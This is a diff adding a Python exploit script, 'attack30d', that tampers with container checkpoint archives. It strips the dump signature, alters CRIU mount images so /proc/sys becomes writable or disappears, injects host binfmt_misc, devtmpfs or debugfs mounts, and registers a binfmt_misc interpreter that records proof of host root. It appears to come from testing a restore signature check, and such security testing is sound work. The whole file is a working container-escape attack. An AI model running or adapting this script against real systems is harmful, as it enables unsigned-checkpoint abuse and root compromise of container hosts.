@@ -1,0 +1,98 @@
+"""attack30d: an edited copy of a real gpuckpt export whose CRIU images (not credentials) are changed.
+usage: edit.py SRC OUT MODE     (run with /usr/bin/python3: crit/pycriu are Debian's)
+Every mode removes checkpoint/gpuckpt-dump.sig (the images are covered by it: an unsigned dump, which
+only restore:any or an archive: exception lets in). spec.dump/config.dump are left as exported.
+MODE nosig:     the images unchanged (control: the restore works and the container is as podman made it).
+MODE procsysrw: mountpoints: the /proc/sys read-only bind loses MS_RDONLY (flags & ~1).
+MODE procsysdel: mountpoints: the /proc/sys bind (podman's readonlyPaths) is removed altogether.
+MODE binfmt:    mountpoints: a binfmt_misc mount at /mnt (fstype 4, a new mnt_id and root_dev), and
+                checkpoint/binfmt-misc.img registering `attack30d` (extension .attack30d) whose interpreter is
+                <podman's userdata of the container>/attack30d-interp, a script shipped at the archive's root.
+                (CRIU did not register it on this node: the entry never appeared; the mount is what matters.)
+MODE binfmtmnt: the binfmt_misc mount alone (no extra image, no extra archive entry).
+MODE devtmpfs:  mountpoints: a devtmpfs mount at /mnt (the host's device nodes).
+MODE debugfs:   mountpoints: a debugfs mount at /mnt.
+"""
+import io, json, os, struct, subprocess, sys, tarfile, tempfile
+import zstandard
+
+src, out, mode = sys.argv[1:4]
+INTERP = "#!/bin/sh\n{ echo \"HOST ROOT via binfmt_misc: $(id) file=$1\"; readlink /proc/self/ns/mnt; } > /var/tmp/attack30d/binfmt-ran\n"
+
+
+def crit(data, fn):
+    with tempfile.TemporaryDirectory() as d:
+        img, js = f"{d}/x.img", f"{d}/x.json"
+        if data is not None:
+            open(img, "wb").write(data)
+            subprocess.run(["crit", "decode", "-i", img, "-o", js], check=True)
+            doc = json.load(open(js))
+        else:
+            doc = None
+        doc = fn(doc)
+        json.dump(doc, open(js, "w"))
+        subprocess.run(["crit", "encode", "-i", js, "-o", img], check=True)
+        return open(img, "rb").read()
+
+
+def binfmt_image(name, interpreter, extension):
+    """checkpoint/binfmt-misc.img by hand (pycriu has no handler for it): IMG_COMMON, BINFMT_MISC magics, then
+    one length-prefixed binfmt_misc_entry {1 name, 2 enabled, 3 interpreter, 4 flags, 5 extension}."""
+    def field(number, value):
+        value = value.encode()
+        size, n = b"", len(value)
+        while True:  # varint length
+            size += bytes([(n & 0x7f) | (0x80 if n > 0x7f else 0)]); n >>= 7
+            if not n:
+                return bytes([number << 3 | 2]) + size + value
+    entry = field(1, name) + bytes([2 << 3, 1]) + field(3, interpreter) + field(4, "") + field(5, extension)
+    return struct.pack("<III", 0x54564319, 0x67343323, len(entry)) + entry
+
+
+def extra_mount(entries, fstype, source):
+    root = next(e for e in entries if e["mountpoint"] == "/")
+    entries.append({"fstype": fstype, "mnt_id": 777, "root_dev": 0xff309, "parent_mnt_id": root["mnt_id"],
+                    "flags": 0x20000e, "root": "/", "mountpoint": "/mnt",
+                    "source": source, "options": "", "shared_id": 0, "master_id": 0, "sb_flags": 0})
+
+
+def mounts(doc):
+    entries = doc["entries"]
+    if mode == "procsysrw":
+        for e in entries:
+            if e["mountpoint"] == "/proc/sys":
+                e["flags"] = e["flags"] & ~1  # MS_RDONLY
+    elif mode == "procsysdel":
+        doc["entries"] = [e for e in entries if e["mountpoint"] != "/proc/sys"]
+    elif mode in ("binfmt", "binfmtmnt"):
+        extra_mount(entries, 4, "binfmt_misc")
+    elif mode == "devtmpfs":
+        extra_mount(entries, 3, "devtmpfs")
+    elif mode == "debugfs":
+        extra_mount(entries, 11, "debugfs")
+    return doc
+
+
+with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
+    members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
+cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
+ud = f"/var/lib/containers/storage/overlay-containers/{cid}/userdata"
+with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
+        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
+    for m, data in members:
+        if m.name == "checkpoint/gpuckpt-dump.sig":
+            continue
+        if m.name.startswith("checkpoint/mountpoints-") and mode != "nosig":
+            data = crit(data, mounts)
+        if data is not None:
+            m.size = len(data); tout.addfile(m, io.BytesIO(data))
+        else:
+            tout.addfile(m)
+    if mode == "binfmt":
+        data = binfmt_image(name="attack30d", interpreter=f"{ud}/attack30d-interp", extension="attack30d")
+        info = tarfile.TarInfo("checkpoint/binfmt-misc.img"); info.size, info.mode = len(data), 0o644
+        tout.addfile(info, io.BytesIO(data))
+        data = INTERP.encode()
+        info = tarfile.TarInfo("attack30d-interp"); info.size, info.mode = len(data), 0o755
+        tout.addfile(info, io.BytesIO(data))
+print(out, cid)
